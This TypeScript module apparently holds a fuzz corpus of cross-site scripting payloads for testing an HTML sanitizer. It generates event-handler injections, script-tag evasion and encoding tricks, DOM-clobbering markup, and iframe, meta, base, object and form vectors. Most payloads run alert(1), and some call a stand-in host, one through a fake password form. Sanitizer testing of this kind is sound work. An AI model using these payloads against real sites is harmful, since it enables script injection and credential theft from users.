/** Every event handler attribute that any browser has supported. */
export const HANDLERS = (
  'onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut ' +
  'onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay ' +
  'oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored ' +
  'oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange ' +
  'onemptied onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange ' +
  'oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onload onloadeddata onloadedmetadata onloadend onloadstart ' +
  'onlostpointercapture onmessage onmessageerror onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup ' +
  'onmousewheel onmozfullscreenchange onoffline ononline onpagehide onpagereveal onpageshow onpageswap onpaste onpause onplay onplaying ' +
  'onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup ' +
  'onpopstate onprogress onpropertychange onratechange onreadystatechange onrepeat onreset onresize onscroll onscrollend ' +
  'onscrollsnapchange onscrollsnapchanging onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange ' +
  'onselectstart onshow onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ' +
  'ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload ' +
  'onvolumechange onwaiting onwebkitanimationend onwebkitanimationiteration onwebkitanimationstart onwebkittransitionend onwheel'
).split(' ')

const ELEMENTS = (
  'img·src=x svg body details·open video·src=x audio·src=x a·href=https://e.example p table input·autofocus marquee style·x x-own·tabindex=1 ' +
  'td select·autofocus textarea·autofocus button iframe·src=https://e.example object·data=x embed·src=x form dialog·open b div·tabindex=1 ' +
  'code blockquote li ul ol h1 abbr·title=x span math image·src=x keygen·autofocus frameset link·rel=stylesheet·href=x track menu summary'
)
  .split(' ')
  .map((element) => element.replaceAll('·', ' '))

const GAPS = [' ', '/', '\t', '\n', '\f', '\r', ' / ', ' a="" ', ' \u00a0 ', '\u000b ']
const QUOTES = [(js: string) => js, (js: string) => `"${js}"`, (js: string) => `'${js}'`, (js: string) => `\`${js}\``]
const upper = (name: string, i: number) => (i % 3 === 0 ? name : i % 3 === 1 ? name.toUpperCase() : `oN${name.slice(2)}`)

/** Each handler on six elements, with every separator, quote and case. */
export const handlers = HANDLERS.flatMap((name, i) =>
  Array.from({ length: 6 }, (_, j) => {
    const element = ELEMENTS[(i * 6 + j * 7) % ELEMENTS.length]
    const gap = GAPS[(i + j) % GAPS.length]
    return `<${element}${gap}${upper(name, i + j)}=${(QUOTES[(i + j) % QUOTES.length] as (js: string) => string)('alert(1)')}>x`
  }),
)

export const scripts = [
  ...[
    'script',
    'SCRIPT',
    'ScRiPt',
    'script/x',
    'script\n',
    'script\t',
    'script\f',
    'script ',
    'script/',
    'ſcript',
    'scrıpt',
    'script\u0000',
  ].flatMap((name) => [`<${name}>alert(1)</${name}>`, `<${name}>alert(1)`, `x<${name}>alert(1)//`, `</p><${name}>alert(1)</script >`]),
  '<script>alert(1)</script\n>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script<script>>alert(1)</script>',
  '<scri\u0000pt>alert(1)</scri\u0000pt>',
  '<script src=https://e.example/x.js></script>',
  '<script src=//e.example/x.js>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script type=module>alert(1)</script>',
  '<script type="text/vbscript">alert(1)</script>',
  '<script async defer src=data:,alert(1)>',
  '<script>eval(location.hash.slice(1)||"alert(1)")</script>',
  '<script>/*</script><script>*/alert(1)</script>',
  '<script><!--\nalert(1)\n--></script>',
  '<script x="</script><script>alert(1)</script>',
  '<script>\u2028alert(1)</script>',
  '<SCRIPT =">" SRC=data:,alert(1)></SCRIPT>',
  "<SCRIPT a=`>` SRC='data:,alert(1)'></SCRIPT>",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;script&#x3e;alert(1)&#x3c/script&#x3e',
  '＜script＞alert(1)＜/script＞',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><script href="data:,alert(1)"></script></svg>',
  '<svg><script/href=data:,alert(1) />',
  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
  '<math><script>alert(1)</script></math>',
  '<noscript><script>alert(1)</script></noscript>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
]

const CLOBBERED = (
  'location document body forms cookie domain getElementById querySelector attributes parentNode innerHTML children action method submit ' +
  'alert fetch __ran top self window constructor __proto__ config nonce'
).split(' ')

/** Elements whose names shadow properties that scripts of a page use. */
export const clobbering = CLOBBERED.flatMap((name) => [
  `<a id=${name} href="https://e.example/">x</a>`,
  `<img name=${name} src="https://e.example/i.png">`,
  `<form name=${name}><input name=action><input name=attributes></form>`,
  `<a id=${name}></a><a id=${name} name=x href="javascript:alert(1)">x</a>`,
  `<iframe name=${name} srcdoc="<a id=x href=javascript:alert(1)></a>"></iframe>`,
])

export const frames = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>',
  "<iframe srcdoc='<img src=x onerror=alert(1)>'>",
  '<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert(1)&gt;"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>" sandbox="allow-scripts allow-same-origin">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="javascript:parent.alert(1)">',
  '<iframe src=java&Tab;script:alert(1)>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe src="//e.example/x"></iframe>',
  '<iframe onload=alert(1)></iframe>',
  '<iframe/onload=alert(1)//',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<frame src="javascript:alert(1)">',
  '<fencedframe src=javascript:alert(1)></fencedframe><portal src=javascript:alert(1)></portal>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0; https://e.example/">',
  '<META HTTP-EQUIV="Set-Cookie" Content="a=<script>alert(1)</script>">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<meta name=referrer content=unsafe-url>',
  '<base href="https://e.example/">',
  '<base href="javascript:alert(1)//"><a href="#">x</a>',
  '<base target="<script>alert(1)</script>">',
  '<link rel=import href=//e.example/x><link rel=stylesheet href=https://e.example/x.css>',
  '<link rel=stylesheet href="data:text/css,*{background:url(https://e.example/)}">',
  '<link rel=preload as=script href=https://e.example/x.js>',
  '<link rel="dns-prefetch preconnect prefetch prerender" href=https://e.example>',
  '<link rel=modulepreload href=data:,alert(1) onload=alert(1)>',
  '<link rel=icon href="https://e.example/i.ico" onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<object type="text/x-scriptlet" data="https://e.example/x"></object>',
  '<object><param name=src value="javascript:alert(1)"><param name=url value="javascript:alert(1)"></object>',
  '<object onerror=alert(1) data=x></object>',
  '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:alert(1)></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
  '<embed src=x.swf allowscriptaccess=always>',
  '<embed code="https://e.example/x" onload=alert(1)>',
  '<applet code=x archive=https://e.example/x.jar onerror=alert(1)></applet>',
  '<form action="javascript:alert(1)"><input type=submit value=x></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
  '<form action="https://e.example/"><input name=password type=password autofocus><button>x</button></form>',
  '<input type=image src=x onerror=alert(1)>',
  '<input type=image formaction="javascript:alert(1)" form=f>',
  '<isindex type=image src=x onerror=alert(1)><isindex action=javascript:alert(1)>',
  '<button popovertarget=p onclick=alert(1)>x</button><p id=p popover onbeforetoggle=alert(1)>y</p>',
  '<button commandfor=d command=show-modal>x</button><dialog id=d oncommand=alert(1)>y</dialog>',
  '<a href="https://e.example/" ping="https://e.example/ping" target=_blank rel=opener>x</a>',
  '<a href=https://e.example/ download="x.html">x</a>',
  '<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=https://e.example/i.png>',
  '<picture><source srcset="https://e.example/ onerror=alert(1)"><img src=x onerror=alert(1)></picture>',
  '<img srcset="x 1x, javascript:alert(1) 2x" sizes=1px>',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<bgsound src="javascript:alert(1)"><body background="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x',
  '<video poster="javascript:alert(1)"><source src=x onerror=alert(1)><track src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1) src=x></video>',
  '<audio autoplay src="data:audio/wav," onerror=alert(1)>',
  '<marquee behavior=alternate loop=1 width=1 onstart=alert(1) onfinish=alert(1)>x</marquee>',
  '<xss contenteditable autofocus onfocus=alert(1)>x</xss>',
  '<p accesskey=x tabindex=1 onclick=alert(1) contenteditable>x</p>',
  '<slot name=x onslotchange=alert(1)></slot><p slot=x is=x-own part=y>z</p>',
  '<xml id=x><i><![CDATA[<img src=x onerror=alert(1)>]]></i></xml><span datasrc=#x datafld=i dataformatas=html></span>',
  '<layer src=https://e.example/></layer><ilayer src=javascript:alert(1)>',
]
